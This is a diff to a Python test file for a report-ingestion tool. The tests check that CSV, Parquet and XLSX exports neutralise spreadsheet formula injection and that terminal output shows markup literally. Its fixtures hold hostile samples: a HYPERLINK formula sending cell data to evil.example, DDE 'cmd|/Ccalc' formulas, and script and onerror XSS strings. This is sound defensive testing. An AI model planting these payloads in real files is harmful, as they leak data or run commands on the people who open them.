@@ -33,6 +33,10 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|'/Ccalc'!A0
             "-2+3+cmd|'/Ccalc'!A0"]
 HTML = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">']
 MARKUP = "西峡[/]县[link=http://evil.example]点[/link][bold]"
+# The same attacks as a title's agency the parser accepts (no digits, no breadcrumb separators such
+# as / | : which mark a web page's navigation): what a hostile document gets into the corpus.
+AGENCY_FORMULAS = ['=HYPERLINK("evil.example?"&A,"点击")', "+cmd!A西峡县", "@SUM(A+B)*cmd!A", "-cmd!A西峡县"]
+AGENCY_MARKUP = "西峡[bold]县[link=evil.example]点[red]"
 
 
 def hostile_report(agency: str):
@@ -95,11 +99,11 @@ def hostile_corpus(tmp_path_factory) -> Path:
     root = tmp_path_factory.mktemp("hostile")
     folder = root / "reports"
     folder.mkdir()
-    for i, agency in enumerate([*FORMULAS, MARKUP]):
+    for i, agency in enumerate([*AGENCY_FORMULAS, AGENCY_MARKUP]):
         report = hostile_report(agency)
         if i == 0:  # a sum that fails: a finding to export
             report.cells["applications.new.total"].value += 1
-        (folder / f"r{i}.md").write_text(render_markdown(report, tables="tabs"), encoding="utf-8")
+        (folder / f"r{i}.html").write_text(render_html(report), encoding="utf-8")
     db = root / "h.db"
     result = cli("ingest", str(folder), "--db", str(db), "--workers", "1", "--no-progress")
     assert result.exit_code == 0, result.output
@@ -112,7 +116,7 @@ def _stored_agencies(root: Path) -> list[str]:
 
 
 def test_the_hostile_agencies_are_stored_as_written(hostile_corpus):
-    assert sorted(_stored_agencies(hostile_corpus)) == sorted(a.strip() for a in [*FORMULAS, MARKUP])
+    assert sorted(_stored_agencies(hostile_corpus)) == sorted([*AGENCY_FORMULAS, AGENCY_MARKUP])
 
 
 @pytest.mark.parametrize("headers", ["key", "zh"])
@@ -133,7 +137,7 @@ def test_csv_and_parquet_cells_never_start_a_formula(hostile_corpus, headers):
             assert starts == [], (path.name, starts)
         if kind == "csv":
             agencies = pd.read_csv(out, encoding="utf-8-sig", dtype=str).iloc[:, 1].tolist()
-            assert "'" + FORMULAS[0] in agencies  # the text is all there, after the apostrophe
+            assert "'" + AGENCY_FORMULAS[0] in agencies  # the text is all there, after the apostrophe
 
 
 def test_xlsx_export_holds_no_formula_and_the_text_as_written(hostile_corpus):
@@ -144,24 +148,24 @@ def test_xlsx_export_holds_no_formula_and_the_text_as_written(hostile_corpus):
     formulas = [c.coordinate for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
     assert formulas == []
     values = {c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row}
-    assert set(FORMULAS) <= values
+    assert set(AGENCY_FORMULAS) <= values
     for ws in workbook.worksheets:  # a frozen header row with filters
         assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
     severities = {c.value for c in next(ws for ws in workbook.worksheets if ws.title == "核查结果")["E"][1:]}
     assert severities and severities <= {"错误", "警告", "提示"}
 
 
-@pytest.mark.parametrize("command", [["list"], ["show", "r4.md"], ["stats", "--by", "region"], ["list", "--failed"]])
+@pytest.mark.parametrize("command", [["list"], ["show", "r4.html"], ["stats", "--by", "region"], ["list", "--failed"]])
 def test_terminal_prints_markup_as_written(hostile_corpus, command):
     result = cli(*command, "--db", str(hostile_corpus / "h.db"))
     assert result.exit_code == 0, result.output
     if command[0] in ("list", "show") and "--failed" not in command:
-        assert "[/]" in result.stdout and "[link=http://evil.example]" in result.stdout
+        assert "[bold]" in result.stdout and "[link=evil.example]" in result.stdout
 
 
 def test_parse_table_prints_markup_as_written(tmp_path):
-    path = tmp_path / "r.md"
-    path.write_text(render_markdown(hostile_report(MARKUP), tables="tabs"), encoding="utf-8")
+    path = tmp_path / "r.html"
+    path.write_text(render_html(hostile_report(AGENCY_MARKUP)), encoding="utf-8")
     result = cli("parse", str(path), "--to", "table")
     assert result.exit_code == 0, result.output
-    assert "[/]县[link=http://evil.example]" in result.stdout
+    assert AGENCY_MARKUP in result.stdout
